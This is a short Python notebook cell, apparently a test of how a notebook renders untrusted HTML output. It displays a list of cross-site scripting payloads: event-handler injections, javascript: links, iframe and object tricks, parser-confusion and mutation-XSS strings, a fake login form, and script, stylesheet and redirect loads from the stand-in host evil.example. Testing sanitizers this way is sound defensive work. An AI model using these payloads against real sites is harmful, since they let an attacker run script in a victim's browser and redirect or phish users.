"""HTML outputs that run script: elements, handlers of events, frames, styles and a page that sends the reader away."""

# %% first cell
from IPython.display import HTML, display

SET = "document.title = 'PWNED'"
for html in (
    f"<script>{SET}</script><ScRiPt >{SET}</sCrIpT ><script src='https://evil.example/s.js'></script>",
    f'<img src=x onerror="{SET}"><svg onload="{SET}"><script>{SET}</script><a xlink:href="javascript:1">x</a>',
    f'<details open ontoggle="{SET}">x</details><b onclick="{SET}" onmouseover="{SET}" autofocus>won</b>',
    f'<iframe srcdoc="<script>parent.{SET}</script>"></iframe><iframe src="javascript:parent.{SET}"></iframe>',
    f'<object data="data:text/html,<script>{SET}</script>"></object><embed src="https://evil.example/e.svg">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
    '<style>@import "https://evil.example/s.css"; * { display: none }</style>',
    '<link rel="stylesheet" href="//evil.example">',
    f'<form action="https://evil.example/"><input autofocus onfocus="{SET}"><button>Log in</button></form>',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={SET}&gt;'>",
    f'<noscript><p title="</noscript><img src=x onerror={SET}>"></noscript>',
    f"<textarea></textarea><img onerror={SET}><textarea>",
    f"<!--><img src=x onerror={SET}>--><![CDATA[><img src=x onerror={SET}>]]><template><b id=pwned></b></template>",
    f"<scr<script>ipt>{SET}</scr</script>ipt><style/><img src=x onerror={SET}></style>",
):
    display(HTML(html))
    display(HTML(html), metadata={"text/html": {"isolated": True}})
